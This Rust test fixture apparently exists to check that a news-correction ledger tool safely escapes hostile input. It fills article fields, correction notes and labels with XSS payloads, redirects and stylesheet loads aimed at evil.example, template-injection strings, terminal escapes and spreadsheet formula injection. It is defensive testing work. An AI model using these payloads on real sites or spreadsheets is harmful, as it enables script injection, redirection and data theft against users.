//! A case in which every field that an article or a person fills tries to do harm, in every way that we know of.
//!
//! In: a path. Out: a ledger there. Invariant: whatever gets to run sets the page's title to [`OWNED`], asks another
//! machine ([`ELSEWHERE`]), or opens a dialogue, so that a browser shows it.

use hearsay::corrections::{Given, Request};
use hearsay::labels::{Setting, Target};
use hearsay::record::CorrectionKind;
use hearsay::{Access, Case, Input, Packs};
use serde_json::json;
use std::path::Path;

/// What a page is called where something ran.
#[allow(dead_code, reason = "not every test looks at titles")]
pub(crate) const OWNED: &str = "owned";

/// Where something would call.
pub(crate) const ELSEWHERE: &str = "evil.example";

/// What is tried.
pub(crate) const ATTEMPTS: [&str; 22] = [
    "<script>document.title='owned';alert(1)</script>",
    "\"><img src=x onerror=\"document.title='owned'\">",
    "'><svg onload=document.title='owned'><animate onbegin=alert(1)>",
    "</title></textarea></style></script><script>document.title='owned'</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';*{display:none!important}</style>",
    "<iframe src='https://evil.example/' srcdoc='<script>parent.document.title=\"owned\"</script>'></iframe>",
    "<a href=javascript:document.title='owned' autofocus onfocus=document.title='owned'>x</a>",
    "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/y'>",
    "<form id=main action='https://evil.example/'><input name=token value=1><button formaction='javascript:alert(1)'>",
    "<details open ontoggle=document.title='owned'><object data='https://evil.example/o'></object>",
    "{{ 7*7 }}{% raw %}{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "<template><slot id=search name=text></slot></template><div id=main class=unseen>",
    "\u{202e}txet desrever\u{2066} \u{200b}",
    "\u{7}\u{1b}[31mred\u{1b}[0m\u{8}",
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "<!-- --><![CDATA[ ]]>&#x3c;script&#x3e;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E\\u003cscript\\u003e",
];

/// Addresses that no page may lead to or load.
const ADDRESSES: [&str; 5] = [
    "javascript:document.title='owned'",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/\"onmouseover=\"document.title='owned'",
    "//evil.example/'><script>alert(1)</script>",
    "https://user:pass@evil.example/%0d%0aSet-Cookie:%20a=b#:~:text=<script>",
];

/// Makes the case.
pub(crate) fn make(path: &Path) {
    let mut case = Case::open(path, Access::Create, Packs::embedded()).expect("a new ledger");
    let mut inputs = vec![long_lines(), page()];
    inputs.extend(ATTEMPTS.iter().enumerate().flat_map(|(number, attempt)| articles(number, attempt)));
    let added = case.add(inputs.into_iter(), "2031-05-05T08:00:00Z", &mut |_| {}).expect("entered");
    assert!(added.len() > 2 * ATTEMPTS.len(), "all were met");
    let statements = case.ledger().statements(&Default::default()).expect("statements");
    let decisions = statements.iter().step_by(3).zip(ATTEMPTS.iter().cycle()).map(|(statement, attempt)| {
        Given::from(Request {
            note: Some((*attempt).to_string()),
            ..Request::new(CorrectionKind::Accept, statement.id.as_str(), &format!("Mallory {attempt}"))
        })
    });
    let decisions: Vec<Given> = decisions.collect();
    case.correct_all(&decisions, "2031-05-05T09:00:00Z", &mut |_| {}).expect("corrections");
    for (number, attempt) in ATTEMPTS.iter().enumerate() {
        let scheme = json!({ "@graph": [
            { "id": format!("urn:scheme:{number}:{attempt}"), "type": "ConceptScheme", "prefLabel": format!("Scheme {attempt}") },
            { "id": format!("urn:concept:{number}:{attempt}"), "type": "Concept", "notation": format!("N{number} {attempt}"),
              "prefLabel": format!("Concept {attempt}"), "scopeNote": *attempt, "inScheme": format!("urn:scheme:{number}:{attempt}") },
        ] });
        case.load_schemes(scheme.to_string().as_bytes(), "2031-05-05T10:00:00Z").expect("a scheme");
        let setting = Setting {
            concept: format!("urn:concept:{number}:{attempt}"),
            scheme: None,
            by: format!("Mallory {attempt}"),
            note: Some((*attempt).to_string()),
        };
        let on = Target::Record(statements[number % statements.len()].id.to_string());
        case.label(&setting, &on, "2031-05-05T10:00:00Z").expect("a label");
    }
}

/// Two articles that carry an attempt in every field; the second copies the first, and denies it.
fn articles(number: usize, attempt: &str) -> [Input; 2] {
    let body = format!(
        "Dam at Orrin holds {attempt}\n\nPolice said on Friday that {n} people were injured at the Orrin dam {attempt} near the wall.\n\n\
         “The wall has been checked every week since March, {attempt}, and nobody saw a crack,” said Mallory {attempt} Quill, \
         chief engineer of the Orrin Dam Company.\n\nMayor Tomas Vell {attempt} accused the Orrin Dam Company of ignoring a crack \
         in the wall.\n\nThe Orrin Dam Company denied that it had ignored a crack in the wall {attempt}.\n",
        n = number + 2,
    );
    let article = |copy: usize, text: &str| {
        let object = json!({
            "title": format!("Dam holds {attempt}"), "byline": format!("By {attempt}"), "outlet": format!("Outlet {attempt}"),
            "url": if copy == 0 { ADDRESSES[number % ADDRESSES.len()].to_string() } else { format!("https://{ELSEWHERE}/{number}") },
            "date": format!("2031-05-0{}", copy + 2), "language": "en", "text": text,
        });
        Input { path: format!("{number}-{copy} {attempt}.json"), bytes: Ok(object.to_string().into_bytes()), url: None }
    };
    let other = body.replace("denied that it had", "said on Saturday that it had not");
    [article(0, &body), article(1, &other)]
}

/// One line of a hundred thousand letters, and one word of ten thousand.
fn long_lines() -> Input {
    let text =
        format!("Long\n\nPolice said that {} and that {} were found.\n", "nobody came and ".repeat(6_000), "x".repeat(10_000));
    Input { path: "long.txt".into(), bytes: Ok(text.into_bytes()), url: None }
}

/// A page that is an attempt as a whole.
fn page() -> Input {
    let attempts: String =
        ATTEMPTS.iter().map(|attempt| format!("<p>Police said on Monday that the wall held {attempt} all night.</p>")).collect();
    let html = format!(
        "<!doctype html><html><head><title>Dam {}</title><link rel=canonical href=\"javascript:alert(1)\"><base href=https://{ELSEWHERE}/>\
         <meta property=og:title content=\"<script>alert(1)</script>\"></head><body onload=\"alert(1)\"><article><h1>Dam</h1>{attempts}</article></body></html>",
        ATTEMPTS[0]
    );
    Input { path: "page.html".into(), bytes: Ok(html.into_bytes()), url: Some(format!("https://{ELSEWHERE}/page")) }
}
